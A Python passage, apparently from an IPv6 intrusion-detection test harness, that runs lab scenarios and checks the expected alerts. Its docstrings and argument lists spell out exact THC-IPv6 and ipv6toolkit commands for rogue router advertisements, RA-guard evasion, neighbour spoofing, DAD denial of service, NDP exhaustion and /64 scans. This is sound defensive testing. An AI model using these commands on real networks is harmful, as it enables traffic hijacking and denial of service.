        raise ValueError("a span capture merges inside and outside: it needs outside")

    def register(fn: Callable[[Lab], None]) -> Callable[[Lab], None]:
        SCENARIOS[fn.__name__] = Scenario(
            fn.__name__,
            frozenset(expect),
            fn,
            tuple(tools),
            tuple(evidence),
            frozenset(sids),
            outside,
            span,
        )
        return fn

    return register


def start_lan(
    lab: Lab,
    routers: Sequence[NodeSpec] = (R1,),
    *,
    wan: bool = False,
    hosts: Sequence[NodeSpec] = (),
) -> None:
    """The live network every scenario starts from, captured from its first frame.

    Routers run radvd, h1 and h2 (and ``hosts``) come up with SLAAC (DAD on), a1 sits
    on the LAN, r1 has its WAN leg and, with ``wan``, a2 sits on the WAN behind r1.
    Returns once every host has its link-local and global address and the network has
    run quietly for ``SETTLE``.
    """
    for spec in (*routers, H1, H2, *hosts, A1):
        lab.add_node(spec)
    lab.add_node(R1_WAN, "eth1")
    if wan:
        lab.add_node(A2)
    lab.start_capture()
    lab.add_addresses()
    if wan:
        # a2's only route leads to r1's WAN leg, inside the lab.
        _ip("-n", lab.nodes["a2"], "-6", "route", "add", "default", "via", R1_WAN_ADDRESS)
    for router in routers:
        lab.start_radvd(router.name)
    for host in (H1, H2, *hosts):
        lab.wait_address(host.name, host.link_local)
        lab.wait_address(host.name, slaac_address(host.mac))
    time.sleep(SETTLE)


def _must_ping(lab: Lab, pairs: Sequence[tuple[str, str]]) -> None:
    """Benign traffic that must work; a failure means the lab itself is broken."""
    failed = [f"{src} -> {dst}" for src, dst in pairs if not lab.ping(src, dst)]
    if failed:
        raise RuntimeError(f"pings failed on the benign network: {', '.join(failed)}")


HOST_PINGS: Final = (
    ("h1", H2_GLOBAL),
    ("h2", H1_GLOBAL),
    ("h1", H2.link_local),
    ("h2", H1.link_local),
    ("h1", "2001:db8:1::1"),
    ("h2", R1.link_local),
)
_RA6: Final = ("ra6", "-i", "eth0", "-s", "fe80::bad", "-d", "ff02::1")
# Egress limits for the two floods that make the kernel create neighbour entries. The
# neighbour table is one for all namespaces (gc_thresh1/2/3 = 128/512/1024, global and
# not even visible inside a namespace), so an unbounded flood would fill it and make the
# kernel force-evict the root namespace's entries. Both limits keep the lab's entries
# (r1, h1, h2 together) under about 400, below gc_thresh2 (measured: 276 and 404).
RA_FLOOD_TBF: Final = "tbf rate 1mbit burst 3000 limit 6000"  # ~40 RAs/s of 1486 bytes
EXHAUST_TBF: Final = "tbf rate 100kbit burst 2000 limit 4000"  # ~55 packets/s of 221 bytes


# Benign: the capture must raise no alert at all.


@scenario(
    expect=(),
    evidence=[
        Evidence("RA from r1", frames(R1.mac, ICMP_RA)),
        Evidence("NS (DAD, resolution) from h1", frames(H1.mac, ICMP_NS), 3),
        Evidence("echo request from h2", frames(H2.mac, ICMP_ECHO), 3),
    ],
)
def benign_slaac(lab: Lab) -> None:
    """r1 advertises; h1 and h2 do SLAAC, ping each other and r1, h1 adds two addresses.

    In the hosts: an ICMPv6 echo between every pair of global and link-local
    addresses and to r1, then ``ip addr add 2001:db8:1::100/64 dev eth0`` and
    ``ip addr add 2001:db8:1::101/64 dev eth0`` in h1 (each runs DAD) and h2 pings both.
    """
    start_lan(lab)
    _must_ping(lab, HOST_PINGS)
    extra = ("2001:db8:1::100", "2001:db8:1::101")
    for addr in extra:
        lab.add_address("h1", addr)
    for addr in extra:
        lab.wait_address("h1", addr)
    _must_ping(lab, [("h2", addr) for addr in extra])
    time.sleep(1.0)  # let one more periodic RA and any delayed MLD report through


@scenario(
    expect=(),
    evidence=[
        Evidence("RA from r1", frames(R1.mac, ICMP_RA)),
        Evidence("RA from r2", frames(R2.mac, ICMP_RA)),
    ],
)
def benign_two_routers(lab: Lab) -> None:
    """r1 and r2 both run radvd with the same prefix and RDNSS; the hosts ping around."""
    start_lan(lab, (R1, R2))
    _must_ping(lab, (*HOST_PINGS, ("h1", "2001:db8:1::2"), ("h2", R2.link_local)))
    time.sleep(2.0)  # a periodic RA from each router


@scenario(
    expect=(),
    evidence=[
        Evidence("RA with router lifetime 0 from r1", frames(R1.mac, ICMP_RA, ra_lifetime=0)),
        Evidence("RA from r1", frames(R1.mac, ICMP_RA), 3),
    ],
)
def benign_router_restart(lab: Lab) -> None:
    """r1's radvd stops (SIGTERM: a final RA with router lifetime 0) and starts again.

    In r1: ``kill -TERM <radvd>``, 1 s later ``radvd -n -m stderr -u root -C
    radvd-r1.conf -p radvd-r1.pid`` again; the hosts ping before and after.
    """
    start_lan(lab)
    _must_ping(lab, HOST_PINGS[:2])
    lab.stop_radvd("r1")
    time.sleep(1.0)
    lab.start_radvd("r1")
    time.sleep(1.5)  # radvd's first RA after a start
    _must_ping(lab, HOST_PINGS)


# Router Advertisement attacks.


@scenario(
    expect=["ipv6.rogue_ra"],
    evidence=[Evidence("RA from a1", frames(A1.mac, ICMP_RA))],
    tools=["atk6-fake_router6"],
)
def fake_router6(lab: Lab) -> None:
    """a1 announces itself as a router for another prefix.

    ``atk6-fake_router6 eth0 2001:db8:bad::/64`` (3 s; it sends an RA every 5 s).
    """
    start_lan(lab)
    lab.run_tool("a1", ["atk6-fake_router6", "eth0", "2001:db8:bad::/64"], 3)


@scenario(
    expect=["ipv6.rogue_ra"],
    sids=[1000104],
    evidence=[
        Evidence(
            "RA from fe80::1 with router lifetime 0, sent by a1",
            frames(A1.mac, ICMP_RA, src_ips=[R1.link_local], ra_lifetime=0),
        )
    ],
    tools=["atk6-kill_router6"],
)
def kill_router6(lab: Lab) -> None:
    """a1 spoofs r1's link-local address and announces r1 is going away (lifetime 0).

    ``atk6-kill_router6 eth0 fe80::1`` (2 s). ``'*'`` instead of the address waits
    for r1's next RA and answers it; naming r1 sends at once.
    """
    start_lan(lab)
    lab.run_tool("a1", ["atk6-kill_router6", "eth0", R1.link_local], 2)


@scenario(
    expect=["ipv6.ra_flood", "ipv6.rogue_ra"],
    sids=[1000101, 1000103, 1000131, 1000132, 1000133],
    evidence=[Evidence("RA from a foreign MAC", frames(FOREIGN, ICMP_RA), 50)],
    tools=["atk6-flood_router26"],
)
def flood_router26(lab: Lab) -> None:
    """RAs with ~25 prefix and route entries each, from random sources and MACs.

    In a1: ``tc qdisc add dev eth0 root tbf rate 1mbit burst 3000 limit 6000``, then
    ``atk6-flood_router26 eth0`` (2 s): the tool floods as fast as it can, the link
    passes about 40 RAs/s (~85 in all; the detection's threshold is 50 per 10 s).
    Unlimited, every RA from a new source makes r1, h1 and h2 each create a neighbour
    entry, and thousands of them overflow the kernel-wide neighbour table.
    """
    start_lan(lab)
    lab.limit_egress("a1", RA_FLOOD_TBF)
    lab.run_tool("a1", ["atk6-flood_router26", "eth0"], FLOOD)


@scenario(
    expect=["ipv6.ra_guard_evasion", "ipv6.ra_flood"],
    sids=[1000123, 1000124, 1000131],
    evidence=[Evidence("fragment from a foreign MAC", frames(FOREIGN, fragment=True), 1000)],
    tools=["atk6-flood_router26"],
)
def flood_router26_evasion(lab: Lab) -> None:
    """The RA flood with full RA-guard evasion: destination options, then fragmented.

    ``atk6-flood_router26 -F eth0`` (2 s).
    """
    start_lan(lab)
    lab.run_tool("a1", ["atk6-flood_router26", "-F", "eth0"], FLOOD)


@scenario(
    expect=["ipv6.ra_guard_evasion", "ipv6.rogue_ra"],
    evidence=[Evidence("fragment from a1", frames(A1.mac, fragment=True), 2)],
    tools=["atk6-fake_router26"],
)
def fake_router26_frag(lab: Lab) -> None:
    """A rogue RA every second, fragmented behind a destination header (full evasion).

    ``atk6-fake_router26 -E F -A 2001:db8:bad::/64 -i 1 eth0`` (3 s).
    """
    start_lan(lab)
    argv = ["atk6-fake_router26", "-E", "F", "-A", "2001:db8:bad::/64", "-i", "1", "eth0"]
    lab.run_tool("a1", argv, 3)


@scenario(
    expect=["ipv6.ra_guard_evasion", "ipv6.rogue_ra"],
    sids=[1000122, 1000123],
    evidence=[
        Evidence(
            "unfragmented RA behind a Destination Options header from a1",
            frames(A1.mac, ICMP_RA, ext_header=60, fragment=False),
            2,
        ),
        Evidence("fragment from a1", frames(A1.mac, fragment=True), 2),
    ],
    tools=["ra6"],
)
def ra6_dstopts(lab: Lab) -> None:
    """ipv6toolkit RAs behind extension headers from fe80::bad, once a second each.

    At the same time (3 s each):
    ``ra6 -i eth0 -s fe80::bad -d ff02::1 -u 8 -P 2001:db8:bad::/64 -e -l -z 1``
    (an 8-byte Destination Options header) and
    ``ra6 -i eth0 -s fe80::bad -d ff02::1 -u 200 -y 64 -P 2001:db8:bad::/64 -e -l -z 1``
    (a 200-byte Destination Options header cut into 64-byte fragments, so the ICMPv6
    header is only in the last fragment).
    """
    start_lan(lab)
    common = ["-P", "2001:db8:bad::/64", "-e", "-l", "-z", "1"]
    dstopt = lab.start_tool("a1", [*_RA6, "-u", "8", *common], 3)
    fragmented = lab.start_tool("a1", [*_RA6, "-u", "200", "-y", "64", *common], 3)
    lab.finish(dstopt)
    lab.finish(fragmented)


@scenario(
    expect=["ipv6.rogue_ra"],
    sids=[1000109],
    evidence=[Evidence("RA with hop limit 64 from a1", frames(A1.mac, ICMP_RA, hop_limit=64), 2)],
    tools=["ra6"],
)
def ra6_small_mtu(lab: Lab) -> None:
    """RAs from a non-policy source with an MTU option of 1000 and IPv6 hop limit 64.

    ``ra6 -i eth0 -s fe80::bad -d ff02::1 -A 64 -M 1000 -P 2001:db8:1::/64 -e -l -z 1``
    (3 s). ``-A``/``--hop-limit`` is documented in ra6(1) but missing from ``ra6 -h``.
    """
    start_lan(lab)
    argv = [*_RA6, "-A", "64", "-M", "1000", "-P", LAN_PREFIX, "-e", "-l", "-z", "1"]
    lab.run_tool("a1", argv, 3)


@scenario(
    expect=["ipv6.rogue_ra", "ipv6.ra_guard_evasion"],
    # spoofed MAC, unlisted option, small MTU, parameter change, global source,
    # SLLA mismatch, and an atomic fragment
    sids=[1000102, 1000105, 1000106, 1000107, 1000108, 1000110, 1000121],
    evidence=[
        Evidence("RA with fe80::1 from a1's MAC", frames(A1.mac, ICMP_RA, src_ips=["fe80::1"])),
        Evidence("RA with r1's MAC sent by ra6", frames(R1.mac, ICMP_RA, src_ips=["fe80::1"]), 5),
        Evidence("RA from a global source", frames(A1.mac, ICMP_RA, src_ips=["2001:db8:1::bad"])),
        Evidence("atomic-fragment RA", frames(A1.mac, fragment=True)),
    ],
    tools=["ra6"],
)
def ra6_rogue_variants(lab: Lab) -> None:
    """One forged RA per rogue-RA variant, then an RA in an atomic fragment.

    ``ra6 -i eth0 -d ff02::1`` plus: ``-s fe80::1 -e -P 2001:db8:1::/64`` (r1's address
    from a1's MAC); ``-s fe80::1 -S <r1's MAC> -E <r1's MAC> -M 1000 -m -p high
    -P 2001:db8:bad::/64`` (as r1: MTU 1000, M flag, high preference, a rogue prefix);
    ``-s fe80::1 -S <r1's MAC> -E <a1's MAC> -P 2001:db8:1::/64`` (SLLA not the Ethernet
    source); ``-s 2001:db8:1::bad -e -P 2001:db8:bad::/64`` (a global source). Then
    ``-s fe80::bad -e -P 2001:db8:bad::/64 -y 1024``: a Fragment header with fragments
    larger than the RA, i.e. an atomic fragment (atk6-fake_router26 -E 1 sent none here).
    """
    start_lan(lab)
    ra6 = ["ra6", "-i", "eth0", "-d", "ff02::1"]
    as_r1 = ["-s", R1.link_local, "-S", R1.mac]
    for extra in (
        ["-s", R1.link_local, "-e", "-P", LAN_PREFIX],
        [*as_r1, "-E", R1.mac, "-M", "1000", "-m", "-p", "high", "-P", "2001:db8:bad::/64"],
        [*as_r1, "-E", A1.mac, "-P", LAN_PREFIX],
        ["-s", "2001:db8:1::bad", "-e", "-P", "2001:db8:bad::/64"],
    ):
        lab.run_tool("a1", [*ra6, *extra], 2)
    argv = [*ra6, "-s", "fe80::bad", "-e", "-P", "2001:db8:bad::/64", "-y", "1024"]
    lab.run_tool("a1", argv, 2)


# Neighbor Discovery attacks.


@scenario(
    expect=["ipv6.ndp_flood"],
    sids=[1000211, 1000213],
    evidence=[Evidence("NS from a foreign MAC", frames(FOREIGN, ICMP_NS), 1000)],
    tools=["atk6-flood_solicitate6"],
)
def flood_solicitate6(lab: Lab) -> None:
    """Neighbor Solicitations for random targets from random sources, at full speed.

    ``atk6-flood_solicitate6 eth0`` (2 s).
    """
    start_lan(lab)
    lab.run_tool("a1", ["atk6-flood_solicitate6", "eth0"], FLOOD)


@scenario(
    expect=["ipv6.ndp_flood"],
    sids=[1000212, 1000213],
    evidence=[Evidence("NA from a foreign MAC", frames(FOREIGN, ICMP_NA), 1000)],
    tools=["atk6-flood_advertise6"],
)
def flood_advertise6(lab: Lab) -> None:
    """Unsolicited Neighbor Advertisements for random addresses and MACs, at full speed.

    ``atk6-flood_advertise6 eth0`` (2 s).
    """
    start_lan(lab)
    lab.run_tool("a1", ["atk6-flood_advertise6", "eth0"], FLOOD)


@scenario(
    expect=["ipv6.ndp_spoof"],
    sids=[1000222, 1000223],
    evidence=[Evidence("NA from a1", frames(A1.mac, ICMP_NA), 2)],
    tools=["atk6-parasite6"],
)
def parasite6(lab: Lab) -> None:
    """a1 answers every Neighbor Solicitation with its own MAC while h1 and h2 talk.

    ``atk6-parasite6 eth0`` (8 s); after 1 s, three times, both hosts flush their
    neighbour caches (``ip -6 neigh flush dev eth0``) and ping each other's global and
    link-local address. Each round has the real host and a1 answer the same NS, so the
    bindings change at least three times (flapping) whatever order the answers come in.
    """
    start_lan(lab)
    run = lab.start_tool("a1", ["atk6-parasite6", "eth0"], 8)
    time.sleep(1.0)  # parasite6 must be sniffing before the first NS
    for _round in range(3):
        for host in ("h1", "h2"):
            lab.flush_neighbours(host)
        for src, dst in HOST_PINGS[:4]:
            lab.ping(src, dst)  # answered or not: the spoofed NAs are the point
    lab.finish(run)


@scenario(
    expect=["ipv6.ndp_spoof"],
    sids=[1000221],
    evidence=[
        Evidence(
            "NA from r1's addresses sent by a1",
            frames(A1.mac, ICMP_NA, src_ips=[R1.link_local, "2001:db8:1::1"]),
            2,
        )
    ],
    tools=["atk6-fake_advertise6"],
)
def fake_advertise6_router(lab: Lab) -> None:
    """a1 claims r1's link-local and global address with unsolicited override NAs.

    The hosts first resolve r1 normally; then, at the same time (4 s each),
    ``atk6-fake_advertise6 -n 3 -w 1 eth0 fe80::1`` and
    ``atk6-fake_advertise6 -n 3 -w 1 eth0 2001:db8:1::1`` (to ff02::1, override flag
    set, advertising a1's own MAC).
    """
    start_lan(lab)
    _must_ping(lab, HOST_PINGS[4:])
    argv = ["atk6-fake_advertise6", "-n", "3", "-w", "1", "eth0"]
    runs = [lab.start_tool("a1", [*argv, addr], 4) for addr in (R1.link_local, "2001:db8:1::1")]
    for run in runs:
        lab.finish(run)


@scenario(
    expect=["ipv6.ndp_spoof"],
    sids=[1000222],
    evidence=[
        Evidence("NA from h1's address sent by a1", frames(A1.mac, ICMP_NA, src_ips=[H1_GLOBAL]), 2)
    ],
    tools=["na6"],
)
def na6_override(lab: Lab) -> None:
    """After h1's own NA is on the wire, a1 advertises h1's global address with its MAC.

    h2 pings h1 (h1 answers h2's NS), then ``na6 -i eth0 -s 2001:db8:1::ff:fe00:201
    -d ff02::1 -t 2001:db8:1::ff:fe00:201 -S 02:00:00:00:0a:01 -E 02:00:00:00:0a:01
    -o -l -z 1`` (3 s).
    """
    start_lan(lab)
    _must_ping(lab, [("h2", H1_GLOBAL), ("h2", H1.link_local)])
    argv = ["na6", "-i", "eth0", "-s", H1_GLOBAL, "-d", "ff02::1", "-t", H1_GLOBAL]
    argv += ["-S", A1.mac, "-E", A1.mac, "-o", "-l", "-z", "1"]
    lab.run_tool("a1", argv, 3)


@scenario(
    expect=["ipv6.dad_dos"],
    sids=[1000231],
    evidence=[Evidence("NA from a foreign MAC", frames(FOREIGN, ICMP_NA), 3)],
    tools=["atk6-dos-new-ip6"],
)
def dos_new_ip6(lab: Lab) -> None:
    """a1 answers every DAD probe, so each of h1's three new addresses fails DAD.

    ``atk6-dos-new-ip6 eth0`` (5 s); after 1 s h1 runs ``ip addr add
    2001:db8:1::200/64 dev eth0``, then ``::201`` and ``::202``.
    """
    start_lan(lab)
    run = lab.start_tool("a1", ["atk6-dos-new-ip6", "eth0"], 5)
    time.sleep(1.0)  # the tool must be sniffing before the first DAD probe
    for addr in ("2001:db8:1::200", "2001:db8:1::201", "2001:db8:1::202"):
        lab.add_address("h1", addr)
    lab.finish(run)


@scenario(
    expect=["ipv6.ndp_exhaustion"],
    sids=[1000201],
    evidence=[Evidence("NS from r1", frames(R1.mac, ICMP_NS), 150)],
    tools=["atk6-ndpexhaust26"],
)
def ndpexhaust(lab: Lab) -> None:
    """From the WAN, a2 sends packets to random addresses of 2001:db8:1::/64 through r1.

    r1 then solicits every target on the LAN. In a2: ``tc qdisc add dev eth0 root tbf
    rate 100kbit burst 2000 limit 4000``, then ``atk6-ndpexhaust26 eth0 2001:db8:1::``
    (3 s): about 55 packets/s reach r1, so r1 solicits roughly 170 distinct targets
    (the detection's threshold is 64). Each target costs r1 two entries in the
    kernel-wide neighbour table (the target, INCOMPLETE, and its solicited-node
    multicast address, NOARP); 300-1000 targets would push the table past gc_thresh2,
    which cannot be raised per namespace (see ``EXHAUST_TBF``).
    """
    start_lan(lab, wan=True)
    lab.limit_egress("a2", EXHAUST_TBF)
    lab.run_tool("a2", ["atk6-ndpexhaust26", "eth0", "2001:db8:1::"], 3)


@scenario(
    expect=["ipv6.ndp_spoof"],
    sids=[1000224, 1000225, 1000226],
    evidence=[Evidence("NS with hop limit 64 from a1", frames(A1.mac, ICMP_NS, hop_limit=64), 2)],
    tools=["ns6"],
)
def ns6_hoplimit(lab: Lab) -> None:
    """NSes to r1 claiming h1's link-local is at another MAC, with IPv6 hop limit 64.

    ``ns6 -i eth0 -s fe80::2:1 -d ff02::1:ff00:1 -t 2001:db8:1::1 -S 02:00:00:00:0a:01
    -E 02:00:00:00:0a:99 -A 64 -l -z 1`` (3 s): Ethernet source a1, source link-layer
    option 02:00:00:00:0a:99. ``-A``/``--hop-limit`` is in ns6(1), not in ``ns6 -h``.
    Then ``ns6 -i eth0 -s fe80::/64 -F 30 -d ff02::1:ff00:1 -t 2001:db8:1::1 -A 64``:
    the same from 30 forged sources at once, past the per-link alert cap (a burst alert;
    30 neighbour entries in r1 at most).
    """
    start_lan(lab)
    argv = ["ns6", "-i", "eth0", "-s", H1.link_local, "-d", "ff02::1:ff00:1"]
    argv += ["-t", "2001:db8:1::1", "-S", A1.mac, "-E", "02:00:00:00:0a:99", "-A", "64"]
    lab.run_tool("a1", [*argv, "-l", "-z", "1"], 3)
    forged = ["ns6", "-i", "eth0", "-s", "fe80::/64", "-F", "30", "-d", "ff02::1:ff00:1"]
    lab.run_tool("a1", [*forged, "-t", "2001:db8:1::1", "-A", "64"], 3)


# Routed: a2 on the WAN, outside r1, against the LAN's /64 (2001:db8:1::/64), with
# the WAN captured too. r1 forwards every probe and multicasts a Neighbor Solicitation
# for each target (three, one second apart) that nobody answers: the NS storm of
# ipv6.ndp_exhaustion, seen only inside. The probes themselves never reach the LAN
# unless a host answers r1's NS, so the sweep is seen only outside, and both (with
# their correlation) only in the span capture.

# a2's egress: far above the ~50 probes/s every scan is told to send, so it never
# drops at that rate, but a tool that ignored its rate limit could not flood r1 (and
# the kernel-wide neighbour table) faster than ~200 packets/s before the watchdog
# (``NEIGHBOUR_BUDGET``) stops it.
SCAN_TBF: Final = "tbf rate 200kbit burst 4000 limit 8000"
# Entries the whole kernel's neighbour table may hold while a scan runs; gc_thresh2 is
# 512 (see ``EXHAUST_TBF``). A scan at ~50 probes/s peaks near 230 with r1's FAILED
# and NOARP entries swept (``Lab.sweep_neighbours``).
NEIGHBOUR_BUDGET: Final = 400
# After a scan, r1 goes on soliciting its last targets for 3 s (3 NS, 1 s apart) and
# then sends its ICMPv6 address-unreachable errors: wait for both to be captured.
SOLICIT_TAIL: Final = 3.5
SCAN6: Final = ("scan6", "-i", "eth0", "-d", LAN_PREFIX)
# scan6 sends at about half the rate it is given: 100pps gives ~50 probes/s.
SCAN6_RATE: Final = ("--rate-limit", "100pps")
ALIVE6: Final = ("atk6-alive6", "-n", "1", "-W", "1")  # each probe once, 1 ms apart
NMAP: Final = ("nmap", "-6", "-n", "-sn", "--max-retries", "0")  # host discovery only
# --min-rate too: unanswered pings otherwise make nmap wait out its timeouts, ~10 probes/s.
NMAP_RATE: Final = ("--min-rate", "50", "--max-rate", "50")

# Run in h2 as `python -c _DNS_SERVER ADDRESS`: answers every UDP query on port 53
# with the query itself turned into a response (QR and RA set, no answer records).
_DNS_SERVER: Final = """
import socket, sys
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.bind((sys.argv[1], 53))
print("ready", flush=True)
while True:
    query, peer = s.recvfrom(512)
    s.sendto(query[:2] + bytes([query[2] | 0x80, 0x80]) + query[4:], peer)
"""
# Run in a2 as `python -c _DNS_CLIENTS SERVER FIRST_CLIENT COUNT`: one AAAA query for
# www.example.com from each of COUNT consecutive client addresses, waiting for each
# answer; exit 1 if any went unanswered.
_DNS_CLIENTS: Final = """
import ipaddress, socket, struct, sys
server, first, count = sys.argv[1], ipaddress.IPv6Address(sys.argv[2]), int(sys.argv[3])
question = b"\\x03www\\x07example\\x03com\\x00\\x00\\x1c\\x00\\x01"
unanswered = []
for n in range(count):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.bind((str(first + n), 0))
        s.settimeout(1.0)
        s.sendto(struct.pack("!6H", n, 0x0100, 1, 0, 0, 0) + question, (server, 53))
        try:
            s.recvfrom(512)
        except TimeoutError:
            unanswered.append(str(first + n))
print(f"{count - len(unanswered)}/{count} answered", unanswered[:5])
sys.exit(1 if unanswered else 0)
"""
DNS_CLIENTS: Final = 128  # past the sweep's 100 targets, were the answers not replies
ROUTED_PINGS: Final = ("2001:db8:1::1", H1_GLOBAL, H2_GLOBAL, RDNSS, V1_GLOBAL)
H1_EXTRA: Final = tuple(f"2001:db8:1::1{n:02x}" for n in range(10))  # ::100 to ::109


def start_routed(lab: Lab) -> None:
    """``start_lan`` with the WAN, v1, a DNS server address and the scan safeguards.

    On top of ``start_lan(wan=True)``: the VirtualBox guest v1 (SLAAC), h2 adds the
    RDNSS address 2001:db8:1::53 (DAD), r1 routes ``REMOTE_NET`` to a2, a2's egress is
    limited (``SCAN_TBF``) and r1's FAILED and NOARP neighbour entries are swept.
    """
    start_lan(lab, wan=True, hosts=(V1,))
    _ip("-n", lab.nodes["r1"], "-6", "route", "add", REMOTE_NET, "via", A2.addresses[0])
    lab.limit_egress("a2", SCAN_TBF)
    lab.sweep_neighbours("r1")
    lab.add_address("h2", RDNSS)
    lab.wait_address("h2", RDNSS)


def remote_scan(argv: Sequence[str], seconds: float, lab: Lab) -> ToolRun:
    """Run a scanner in a2 under ``timeout`` and the neighbour watchdog, then let r1's
    solicitations and errors for the last targets finish."""
    run = lab.run_tool("a2", argv, seconds, NEIGHBOUR_BUDGET)
    time.sleep(SOLICIT_TAIL)
    return run


def lan_scan(
    tools: Sequence[str],
    probed: int,
    solicited: int,
    *,
    sid: int = 1000401,
    outside_evidence: Sequence[Evidence] = (),
) -> Callable[[Callable[[Lab], None]], Callable[[Lab], None]]:
    """``scenario`` for a2 scanning the LAN's /64 through r1, with all three captures.

    Outside: ``ipv6.sweep`` (``sid``), proven by at least ``probed`` distinct LAN
    addresses a2 sent to. Inside: ``ipv6.ndp_exhaustion``, proven by r1 soliciting at
    least ``solicited`` distinct targets. Span: both.
    """
    probes = Evidence(
        "distinct LAN addresses probed from a2",
        frames(A2.mac, dst_net=LAN_PREFIX),
        probed,
        distinct=destination,
    )
    storm = Evidence("distinct targets r1 solicited", frames(R1.mac, ICMP_NS), solicited, nd_target)
    return scenario(
        expect=["ipv6.ndp_exhaustion"],
        sids=[1000201],
        evidence=[storm],
        tools=tools,
        outside=expected(["ipv6.sweep"], [probes, *outside_evidence], [sid]),
        span=expected(["ipv6.sweep", "ipv6.ndp_exhaustion"], [probes, storm], [sid, 1000201]),
    )


# Benign routed traffic: no capture may raise any alert.

_SILENT: Final = expected((), ())


@scenario(
    expect=(),
    evidence=[
        Evidence(
            "distinct LAN hosts' addresses r1 forwarded a2's echo requests to",
            frames(R1.mac, ICMP_ECHO, src_ips=A2.addresses),
            len(ROUTED_PINGS) + len(H1_EXTRA) - 1,  # r1 answers for 2001:db8:1::1 itself
            distinct=destination,
        ),
    ],
    outside=expected(
        (),
        [
            Evidence(
                "distinct LAN addresses a2 pinged",
                frames(A2.mac, ICMP_ECHO, dst_net=LAN_PREFIX),
                len(ROUTED_PINGS) + len(H1_EXTRA),
                distinct=destination,
            ),
            Evidence(
                "distinct LAN addresses that answered a2",
                frames(R1_WAN.mac, ICMP_ECHO_REPLY, src_net=LAN_PREFIX),
                len(ROUTED_PINGS) + len(H1_EXTRA),
                distinct=source,
            ),
        ],
    ),
    span=_SILENT,
)
def benign_routed_pings(lab: Lab) -> None:
    """From the WAN, a2 pings 15 LAN addresses through r1 and every one answers.

    h1 adds ``2001:db8:1::100/64`` to ``::109`` (DAD), then a2 sends one ICMPv6 echo to
    each of them and to r1 (2001:db8:1::1), h1, h2, h2's 2001:db8:1::53 and v1; h1 and
    h2 ping a2 back. Under 20 targets, all answered: no sweep.
    """
    start_routed(lab)
    for addr in H1_EXTRA:
        lab.add_address("h1", addr)
    for addr in H1_EXTRA:
        lab.wait_address("h1", addr)
    targets = [*ROUTED_PINGS, *H1_EXTRA]
    _must_ping(
        lab, [("a2", t) for t in targets] + [("h1", A2.addresses[0]), ("h2", A2.addresses[0])]
    )
    time.sleep(1.0)


@scenario(
    expect=(),
    evidence=[
        Evidence(
            "distinct clients h2 answered on the LAN",
            frames(H2.mac, src_ips=[RDNSS], dst_net=REMOTE_NET, upper=NH_UDP),
            DNS_CLIENTS,
            distinct=destination,
        )
    ],
    outside=expected(
        (),
        [
            Evidence(
                "distinct clients that queried 2001:db8:1::53",
                frames(A2.mac, src_net=REMOTE_NET, upper=NH_UDP),
                DNS_CLIENTS,
                distinct=source,
            ),
            Evidence(
                "distinct clients answered by 2001:db8:1::53",
                frames(R1_WAN.mac, src_ips=[RDNSS], dst_net=REMOTE_NET, upper=NH_UDP),
                DNS_CLIENTS,
                distinct=destination,
            ),
        ],
    ),
    span=_SILENT,
)
def benign_dns_server(lab: Lab) -> None:
    """A DNS server inside answers 128 clients of one remote /64, each of which asked first.

    h2 runs a small UDP server on [2001:db8:1::53]:53 (the RDNSS address); a2 holds
    2001:db8:fe::1000 to ::107f (``REMOTE_NET``, routed to a2 by r1) and sends one AAAA
    query from each, waiting for its answer. The server sends to 128 addresses of one
    /64, but every one of them spoke first: no sweep. Many sources, one destination:
    no sweep either.
    """
    start_routed(lab)
    first = ipaddress.IPv6Address("2001:db8:fe::1000")
    batch = "".join(f"address add {first + n}/128 dev lo\n" for n in range(DNS_CLIENTS))
    subprocess.run(
        ["ip", "-n", lab.nodes["a2"], "-6", "-batch", "-"],
        input=batch,
        text=True,
        check=True,
        capture_output=True,
        timeout=30,
    )
    server = lab.spawn("h2", [sys.executable, "-c", _DNS_SERVER, RDNSS], "dns-server.log")
    deadline = time.monotonic() + 10
    while "ready" not in (lab.workdir / "dns-server.log").read_text(errors="replace"):
        if server.poll() is not None or time.monotonic() > deadline:
            raise RuntimeError("the DNS server did not start")
        time.sleep(0.02)
    lab.sh("a2", sys.executable, "-c", _DNS_CLIENTS, RDNSS, str(first), str(DNS_CLIENTS))
    time.sleep(0.5)


# Scans of the LAN's /64 from outside.


@lan_scan(["scan6"], probed=150, solicited=100)
def scan6_low_byte(lab: Lab) -> None:
    """ipv6toolkit's low-byte strategy: 2001:db8:1::0:0 upwards (IIDs 0:0:0-100:0-1500).

    ``scan6 -i eth0 -d 2001:db8:1::/64 --tgt-low-byte --rate-limit 100pps`` (5 s,
    ~240 probes at ~50/s, ::0 to ::f0: r1's ::1 and h2's ::53 answer).
    """
    start_routed(lab)
    remote_scan([*SCAN6, "--tgt-low-byte", *SCAN6_RATE], 5, lab)


@lan_scan(["scan6"], probed=150, solicited=100)
def scan6_ieee_oui(lab: Lab) -> None:
    """EUI-64 addresses of VirtualBox's IEEE OUI 08:00:27: 2001:db8:1::a00:27ff:fe00:0 upwards.

    ``scan6 -i eth0 -d 2001:db8:1::/64 --tgt-ieee-oui 08:00:27 --rate-limit 100pps``
    (5 s, ~240 probes; v1, 08:00:27:00:00:3c, answers the 61st). ``--tgt-vm vbox``
    sends exactly the same probes.
    """
    start_routed(lab)
    remote_scan([*SCAN6, "--tgt-ieee-oui", "08:00:27", *SCAN6_RATE], 5, lab)


@lan_scan(["scan6"], probed=150, solicited=100)
def scan6_ipv4_embedded(lab: Lab) -> None:
    """Addresses embedding the IPv4 prefix 192.0.2.0/25, both ways scan6 knows.

    ``scan6 -i eth0 -d 2001:db8:1::/64 --tgt-ipv4 ipv4-all --ipv4-host 192.0.2.0/25
    --rate-limit 100pps`` (6 s, ~290 probes): first 2001:db8:1::c000:200 to ::c000:27f
    (ipv4-32), then the 64-bit encoding. scan6 2.0 writes that one in hex, one byte a
    word, and only odd last words (2001:db8:1::c0:0:2:1, ::c0:0:2:3, ...), not the
    decimal-looking 2001:db8:1::192:0:2:1 its manual describes, and runs on past the
    /25, hence the time bound.
    """
    start_routed(lab)
    argv = [*SCAN6, "--tgt-ipv4", "ipv4-all", "--ipv4-host", "192.0.2.0/25", *SCAN6_RATE]
    remote_scan(argv, 6, lab)


@lan_scan(["scan6"], probed=150, solicited=100)
def scan6_port_embedded(lab: Lab) -> None:
    """Addresses embedding well-known service ports: 2001:db8:1::21, ::1:21, ::21:0, ...

    ``scan6 -i eth0 -d 2001:db8:1::/64 --tgt-port --rate-limit 100pps`` (5 s, ~240 of
    its 552 targets: 23 ports, hex and decimal, in the last or next-to-last word, next
